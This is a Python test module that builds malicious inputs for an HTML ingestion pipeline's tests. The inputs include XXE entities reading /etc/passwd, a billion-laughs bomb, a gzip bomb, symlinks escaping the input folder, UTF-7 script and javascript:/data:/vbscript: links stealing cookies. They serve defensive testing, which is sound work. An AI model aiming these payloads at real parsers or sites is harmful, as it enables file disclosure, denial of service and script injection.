"""A corpus of hostile raw inputs, generated on the fly (no binary fixtures in the repository).

`build(raw, outside)` writes every case under `raw` (and the targets of the escaping symlinks
under `outside`, a folder beside it) and returns the cases with the outcome each must have:
a published record (with an optional check of its content) or a rejection at a named stage
whose reason contains a given text.
"""

from __future__ import annotations

import gzip
import os
import random
import shutil
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from .conftest import ROOT

RAW = ROOT / "raw"
MiB = 1024 * 1024

#: Content of the file the escaping symlink points at: it must never reach any output.
SECRET = "TOP-SECRET-7f3a9c: this file lives outside the raw folder and must never be read"


@dataclass(frozen=True)
class Case:
    name: str  # path below the raw folder, as the flow reports it
    outcome: str  # "record" or "rejected"
    stage: str | None = None  # rejections: the stage that refuses the file
    reason: str | None = None  # rejections: text the reason must contain (case-insensitive)
    check: Callable[[dict[str, Any]], None] | None = None  # records: more checks on the record
    reported_as: str | None = None  # the path as reported, when it differs from `name`


# --- page builders -----------------------------------------------------------------------------

_PARAS = [
    "Heartburn is a burning feeling in the chest that rises toward the throat, usually after a large "
    "meal or when lying down. It happens when stomach acid flows back into the food pipe.",
    "Most people have heartburn now and then, and simple changes to meals and sleep are often "
    "enough to keep it away. Persistent heartburn deserves a visit to a doctor.",
    "Eating smaller meals, avoiding late dinners, raising the head of the bed and cutting down on "
    "fatty or spicy food all reduce the amount of acid that reaches the food pipe at night.",
    "Over-the-counter antacids neutralise acid quickly, but if you need them more than twice a week "
    "for several weeks, ask a pharmacist or doctor about other treatment.",
]


def article(
    title: str = "What Causes Heartburn and How to Ease It",
    paras: list[str] | None = None,
    *,
    head: str = "",
    before: str = "",
    after: str = "",
    charset: str | None = "utf-8",
    doctype: str = "<!DOCTYPE html>",
) -> str:
    """A small but real-looking article page (trafilatura finds its text)."""
    meta = f'<meta charset="{charset}">' if charset else ""
    body = "\n".join(f"<p>{p}</p>" for p in (paras or _PARAS))
    return (
        f'{doctype}\n<html lang="en"><head>{meta}<title>{title} | Health Example</title>{head}</head>\n'
        f'<body><header class="site-header"><a href="/">Health Example</a></header>\n'
        f"<main><article><h1>{title}</h1>\n{before}\n{body}\n{after}\n</article></main>\n"
        f'<footer class="site-footer">(c) Health Example</footer></body></html>\n'
    )


_ZH_PARAS = [
    "胃胀是很多人都有过的感觉，吃饭过快、进食过多或者吃了容易产气的食物，都会让肚子胀得难受。",
    "想要缓解胃胀，首先要细嚼慢咽，每餐只吃七八分饱，少喝碳酸饮料，少吃豆类和油炸食品。",
    "饭后不要马上躺下，可以散步十五分钟，帮助胃肠蠕动。顺时针按摩腹部也有一定的帮助。",
    "如果胃胀反复出现，伴有消瘦、黑便或者呕吐，应该及时到医院检查，排除器质性疾病。",
]


def zh_article(charset: str | None) -> str:
    meta = f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">' if charset else ""
    body = "\n".join(f"<p>{p}</p>" for p in _ZH_PARAS)
    return (
        f"<html><head>{meta}<title>胃胀怎么办？四个方法帮你缓解_健康频道</title></head>\n"
        f'<body><div class="article"><h1>胃胀怎么办？四个方法帮你缓解</h1>\n{body}\n</div></body></html>\n'
    )


def _title_is(expected: str) -> Callable[[dict[str, Any]], None]:
    def check(record: dict[str, Any]) -> None:
        assert record["title"] == expected, record["title"]

    return check


def _text_has(*needles: str, absent: tuple[str, ...] = ()) -> Callable[[dict[str, Any]], None]:
    def check(record: dict[str, Any]) -> None:
        for needle in needles:
            assert needle in record["text"], f"{needle!r} missing from the text"
        for needle in absent:
            assert needle not in record["text"], f"{needle!r} in the text"

    return check


def _all(*checks: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def check(record: dict[str, Any]) -> None:
        for c in checks:
            c(record)

    return check


def _encoding(expected: str) -> Callable[[dict[str, Any]], None]:
    def check(record: dict[str, Any]) -> None:
        assert record["source"]["encoding"] == expected, record["source"]["encoding"]

    return check


def _safe_related(record: dict[str, Any]) -> None:
    links = record["related_links"]
    urls = [link["url"] for link in links]
    assert "https://www.health-example.com/heartburn/foods-to-avoid/" in urls, links
    assert "https://www.health-example.com/sleep/raise-the-bed/" in urls, links
    for link in links:
        assert link["url"] is None or link["url"].startswith(("http://", "https://")), link
        assert "alert" not in (link["url"] or "") and "base64" not in (link["url"] or ""), link
    assert len(links) == 2, links


# --- the cases ---------------------------------------------------------------------------------


def build(raw: Path, outside: Path) -> list[Case]:
    """Write the corpus into `raw` (escaping targets into `outside`); return the cases."""
    raw.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    rng = random.Random(20240601)

    def put(name: str, data: bytes | str, case: Case) -> None:
        path = raw / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        cases.append(case)

    # Good pages, copied from the sample corpus.
    for name, title in (
        ("blog-tension-headache.html", "How to Relieve a Tension Headache Without Pills"),
        ("zh-gbk-stomach-bloating.html", None),
        ("news-flu-vaccine-clinics.html.gz", None),
    ):
        shutil.copyfile(RAW / name, raw / name)
        cases.append(Case(name, "record", check=_title_is(title) if title else None))

    # Empty, blank and binary files with page names.
    put("empty.html", b"", Case("empty.html", "rejected", "decode", "empty file"))
    put("whitespace.html", b" \n\t\r\n  \n" * 100, Case("whitespace.html", "rejected", "decode", "only whitespace"))
    png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(2000))
    put("image-png.html", png, Case("image-png.html", "rejected", "decode", "not a text page: PNG image"))
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + rng.randbytes(3000)
    put("document-pdf.html", pdf, Case("document-pdf.html", "rejected", "decode", "not a text page: PDF document"))
    put(
        "random-bytes.html",
        rng.randbytes(64 * 1024),
        Case("random-bytes.html", "rejected", "decode", "not a text page: binary data"),
    )
    put(
        "nul-bytes.txt",
        "Line one of a text dump\nHeadache relief\x00\x00\x00 with NUL bytes inside\n" * 50,
        Case("nul-bytes.txt", "rejected", "decode", "NUL"),
    )
    late_nul = (
        "Cold hands and feet\n"
        + "Keep your hands warm with gloves and move often.\n" * 400
        + "a stray NUL \x00 far into the file\n"
    )
    put("late-nul.txt", late_nul, Case("late-nul.txt", "rejected", "decode", "NUL"))

    # Truncated and malformed HTML.
    full = article()
    cut = full[: full.index(_PARAS[2][:40]) + 25]  # ends inside the third paragraph, mid-tag soon after
    put("truncated.html", cut + "<p cla", Case("truncated.html", "record", check=_text_has(_PARAS[0][:60])))
    put(
        "truncated-head.html",
        "<!DOCTYPE html><html><head><title>Trunc",
        Case("truncated-head.html", "rejected", "extract", "not an article"),
    )
    put(
        "deep-unclosed-div.html",
        "<html><body>" + "<div>deep " * 10_000,
        Case("deep-unclosed-div.html", "rejected", "parse", "max_dom_depth"),
    )
    deep = article(before="<div>" * 300 + "<p>Deep inside.</p>" + "</div>" * 300)
    put("deep-balanced.html", deep, Case("deep-balanced.html", "rejected", "parse", "max_dom_depth"))
    # 10,000 unclosed <p>: the HTML parser closes each <p> at the next one, so the tree stays flat.
    put(
        "unclosed-p.html",
        article(after="<p>unclosed " * 10_000),
        Case("unclosed-p.html", "record", check=_text_has(_PARAS[1][:60])),
    )
    put(
        "no-body.html",
        "<html><head><title>Heartburn</title></head>\n" + "\n".join(f"<p>{p}</p>" for p in _PARAS) + "\n</html>",
        Case("no-body.html", "record", check=_text_has(_PARAS[3][:60])),
    )
    put(
        "head-only.html",
        "<html><head><title>Heartburn basics</title><meta name=description content=x></head></html>",
        Case("head-only.html", "rejected", "extract", "not an article"),
    )
    put(
        "script-only.html",
        "<html><body><script>" + "var a = 1;\n" * 500 + "</script></body></html>",
        Case("script-only.html", "rejected", "extract", "not an article"),
    )
    put(
        "many-nodes.html",
        article(after="<span></span>" * 250_000),
        Case("many-nodes.html", "rejected", "parse", "max_dom_nodes"),
    )

    # Size limits: a 50 MB page (sparse: no disk written), and a gzip bomb.
    with (raw / "huge-50mb.html").open("wb") as handle:
        handle.write(b"<html><body><p>")
        handle.truncate(50 * 1000 * 1000)
    cases.append(Case("huge-50mb.html", "rejected", "read", "max_page_bytes"))
    bomb = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"<p>" + b"A" * (MiB - 7) + b"</p>\n"
    parts = [bomb.compress(b"<html><body>")] + [bomb.compress(chunk) for _ in range(40)] + [bomb.flush()]
    put("gzip-bomb.html.gz", b"".join(parts), Case("gzip-bomb.html.gz", "rejected", "decode", "max_inflated_bytes"))
    put("not-gzip.html.gz", article(), Case("not-gzip.html.gz", "rejected", "decode", "not valid gzip"))
    packed = gzip.compress(article().encode("utf-8"))
    put(
        "truncated.html.gz",
        packed[: len(packed) // 2],
        Case("truncated.html.gz", "rejected", "decode", "truncated gzip"),
    )
    put("gzip-of-png.html.gz", gzip.compress(png), Case("gzip-of-png.html.gz", "rejected", "decode", "PNG image"))

    # Encodings.
    bad_utf8 = article(paras=[_PARAS[0] + " Caf\xe9 au lait.", *_PARAS[1:]]).encode("utf-8")
    bad_utf8 = bad_utf8.replace("Caf\xe9".encode(), b"Caf\xe9\xff")
    put(
        "bad-utf8-claims-utf8.html",
        bad_utf8,
        Case(
            "bad-utf8-claims-utf8.html",
            "record",
            check=_all(_text_has("Caf\ufffd", _PARAS[1][:60]), _encoding("utf-8 (invalid bytes replaced)")),
        ),
    )
    latin = article(paras=[p + " Le caf\xe9 et la cr\xe8me br\xfbl\xe9e, d\xe9j\xe0 vu." for p in _PARAS])
    put(
        "latin1-claims-utf8.html",
        latin.encode("latin-1"),
        Case(
            "latin1-claims-utf8.html",
            "record",
            check=_text_has("Le caf\xe9 et la cr\xe8me br\xfbl\xe9e, d\xe9j\xe0 vu."),
        ),
    )
    put(
        "gbk-no-charset.html",
        zh_article(None).encode("gbk"),
        Case(
            "gbk-no-charset.html",
            "record",
            check=_all(_title_is("胃胀怎么办？四个方法帮你缓解"), _text_has(_ZH_PARAS[1]), _encoding("gb18030")),
        ),
    )
    utf16 = article(title="Heartburn \u2014 na\xefve questions answered", charset="utf-16")
    put(
        "utf16-bom.html",
        b"\xff\xfe" + utf16.encode("utf-16-le"),
        Case(
            "utf16-bom.html",
            "record",
            check=_all(
                _title_is("Heartburn \u2014 na\xefve questions answered"), _text_has(_PARAS[2]), _encoding("utf-16-le")
            ),
        ),
    )
    put(
        "utf16be-no-bom.html",
        article(charset=None).encode("utf-16-be"),
        Case("utf16be-no-bom.html", "record", check=_all(_text_has(_PARAS[0]), _encoding("utf-16-be"))),
    )
    put(
        "utf8-bom-claims-gb2312.html",
        b"\xef\xbb\xbf" + zh_article("gb2312").encode("utf-8"),
        Case("utf8-bom-claims-gb2312.html", "record", check=_all(_text_has(_ZH_PARAS[2]), _encoding("utf-8"))),
    )
    utf7 = article(
        paras=[*_PARAS, "Payload +ADw-script+AD4-alert(1)+ADw-/script+AD4- stays literal text."], charset="utf-7"
    )
    put(
        "utf7-declared.html",
        utf7,
        Case(
            "utf7-declared.html",
            "record",
            check=_all(_text_has("+ADw-script+AD4-", absent=("<script>",)), _encoding("utf-8")),
        ),
    )
    put(
        "control-chars.html",
        article(paras=[p.replace(" ", " \x01\x0b", 3) for p in _PARAS]),
        Case("control-chars.html", "record", check=_text_has("Heartburn", absent=("\x01", "\x0b"))),
    )

    # Entities and XML / DOCTYPE tricks: nothing is resolved, nothing is fetched.
    ents = article(
        paras=[
            *_PARAS,
            "Fish &amp; chips, &lt;script&gt;alert(1)&lt;/script&gt;, 5 &gt; 3, "
            "&#x4e2d;&#25991;, caf&eacute;, a&nbsp;b, bad refs &#0; &#xD800; &#99999999; &bogus; end.",
        ]
    )
    put(
        "entities.html",
        ents,
        Case(
            "entities.html",
            "record",
            check=_text_has(
                "Fish & chips, <script>alert(1)</script>, 5 > 3, 中文, café",
                "bad refs \ufffd \ufffd \ufffd &bogus; end.",
            ),
        ),
    )
    secret = outside / "secret.txt"
    secret.write_text(SECRET + "\n", encoding="utf-8")
    xxe = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<!DOCTYPE html [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n<!ENTITY sec SYSTEM "file://{secret}">\n'
        '<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;\n]>\n'
    )
    put(
        "xxe-doctype.html",
        article(doctype=xxe, paras=[*_PARAS, "Passwd: &xxe; Secret: &sec; done."]),
        Case(
            "xxe-doctype.html",
            "record",
            check=_text_has(
                _PARAS[0][:60], "Passwd: &xxe; Secret: &sec; done.", absent=("root:", "TOP-SECRET", "ENTITY")
            ),
        ),
    )
    laughs = (
        '<!DOCTYPE html [\n<!ENTITY lol "lol">\n'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
        + "]>"
    )
    put(
        "billion-laughs.html",
        article(doctype=laughs, paras=[*_PARAS, "Laugh: &lol9; over."]),
        Case(
            "billion-laughs.html",
            "record",
            check=_text_has(_PARAS[0][:60], "Laugh: &lol9; over.", absent=("lollollol",)),
        ),
    )

    # Unsafe link schemes inside a related-articles block.
    related = """
<div class="related-articles"><h2>Related articles</h2><ul>
<li><a href="https://www.health-example.com/heartburn/foods-to-avoid/">Foods to avoid with heartburn</a></li>
<li><a href="javascript:alert(document.cookie)">Ten tricks doctors hate</a></li>
<li><a href=" JaVaScRiPt:alert(1)">Mixed-case script link</a></li>
<li><a href="java&#x0A;script:alert(2)">Split script link</a></li>
<li><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A data link in disguise</a></li>
<li><a href="vbscript:msgbox(1)">An old VBScript link</a></li>
<li><a href="file:///etc/passwd">A local file link</a></li>
<li><a href="/sleep/raise-the-bed/">Raise the head of your bed</a></li>
</ul></div>"""
    put(
        "unsafe-links.html",
        article(head='<link rel="canonical" href="https://www.health-example.com/heartburn/">', after=related),
        Case("unsafe-links.html", "record", check=_safe_related),
    )

    # Non-articles: a login form and an index of links are rejected, not published as articles.
    login = (
        "<html><head><title>Sign in | Health Example</title></head><body><h1>Sign in</h1>"
        "<p>Welcome back! Sign in to see your saved articles.</p>"
        "<form action=/login method=post><label>Email <input name=email></label>"
        "<label>Password <input type=password name=password></label><button>Sign in</button></form>"
        "<p><a href=/forgot>Forgot your password?</a></p></body></html>"
    )
    put("login-form.html", login, Case("login-form.html", "rejected", "extract", "not an article"))
    index = (
        "<html><head><title>Index of /articles</title></head><body><h1>Index of /articles</h1><pre>"
        '<a href="?C=N">Name</a> <a href="?C=M">Last modified</a> <a href="?C=S">Size</a>\n'
        + "".join(
            f'<a href="page-{i}.html">page-{i}.html</a>  2024-03-{1 + i % 28:02d} 10:{i % 60:02d}  '
            f"{4 + i % 9}.{i % 10}K\n"
            for i in range(200)
        )
        + "</pre><address>Apache/2.4.58 Server at example.com Port 443</address></body></html>"
    )
    put("index-of-links.html", index, Case("index-of-links.html", "rejected", "extract", "not an article"))
    links = (
        "<html><head><title>Sitemap</title></head><body>"
        + "".join(f'<a href="https://example.com/{i}">Article number {i}</a> ' for i in range(10_000))
        + "</body></html>"
    )
    put("ten-thousand-links.html", links, Case("ten-thousand-links.html", "rejected", "extract", "not an article"))
    links_in_article = article(
        after='<div class="related-articles"><h2>Related articles</h2><ul>'
        + "".join(f'<li><a href="/heartburn/{i}/">Heartburn question {i}</a></li>' for i in range(10_000))
        + "</ul></div>"
    )
    put(
        "article-with-10000-links.html",
        links_in_article,
        Case(
            "article-with-10000-links.html", "record", check=_text_has(_PARAS[3][:60], absent=("Heartburn question 9",))
        ),
    )

    # Huge single lines.
    words = " ".join(rng.choice(("heart", "burn", "acid", "meal", "sleep", "water")) for _ in range(400_000))
    put(
        "huge-line.txt",
        "Heartburn notes\n" + words + "\n",
        Case("huge-line.txt", "record", check=_title_is("Heartburn notes")),
    )
    put(
        "huge-line.html",
        article(paras=[_PARAS[0], words]).replace("\n", " "),
        Case("huge-line.html", "record", check=_text_has(_PARAS[0][:60])),
    )

    # File names and file system tricks.
    name = "name with spaces é 头痛 (copy).html"
    put(
        name,
        article(title="Heartburn, with a strange file name"),
        Case(name, "record", check=_title_is("Heartburn, with a strange file name")),
    )
    (raw / "x.html").mkdir()
    put(
        "x.html/inner.html",
        article(title="Inside a folder named like a page"),
        Case("x.html/inner.html", "record", check=_title_is("Inside a folder named like a page")),
    )
    (raw / "escape-passwd.html").symlink_to("/etc/passwd")
    cases.append(Case("escape-passwd.html", "rejected", "discover", "outside the raw folder"))
    (raw / "escape-secret.html").symlink_to(secret)
    cases.append(Case("escape-secret.html", "rejected", "discover", "outside the raw folder"))
    (raw / "escape-relative.html").symlink_to(Path("..") / outside.name / "secret.txt")
    cases.append(Case("escape-relative.html", "rejected", "discover", "outside the raw folder"))
    (raw / "escape-folder").symlink_to(outside, target_is_directory=True)
    cases.append(Case("escape-folder", "rejected", "discover", "outside the raw folder"))
    (raw / "dangling.html").symlink_to(raw / "does-not-exist.html")
    cases.append(Case("dangling.html", "rejected", "discover", "broken symlink"))
    (raw / "dev-zero.html").symlink_to("/dev/zero")
    cases.append(Case("dev-zero.html", "rejected", "discover", "outside the raw folder"))
    os.mkfifo(raw / "fifo.html")
    cases.append(Case("fifo.html", "rejected", "discover", "not a regular file"))
    bad_name = os.fsdecode(b"bad-name-\xff\xfe.html")
    put(
        bad_name,
        article(title="A name that is not UTF-8"),
        Case(bad_name, "rejected", "discover", "not valid UTF-8", reported_as="bad-name-\\xff\\xfe.html"),
    )
    put("report.pdf", pdf, Case("report.pdf", "rejected", "discover", "unsupported file type"))
    put("data.json", '{"title": "not a page"}', Case("data.json", "rejected", "discover", "unsupported file type"))
    return cases
